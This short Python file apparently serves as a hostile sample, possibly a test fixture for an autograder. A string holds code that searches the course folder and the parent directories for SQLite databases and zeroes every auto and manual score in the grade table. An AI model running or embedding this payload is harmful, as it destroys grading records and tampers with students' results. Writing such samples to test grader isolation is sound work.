"""Takes the points away from everybody, in the gradebook itself."""

LAST = """
import sqlite3
from pathlib import Path

for folder in (Path("@course@"), *Path.cwd().parents):
    for file in folder.glob("*.db"):
        try:
            with sqlite3.connect(file, timeout=2) as database:
                database.execute("update grade set auto_score = 0, manual_score = 0")
        except sqlite3.Error as error:
            print(file, error)
"""
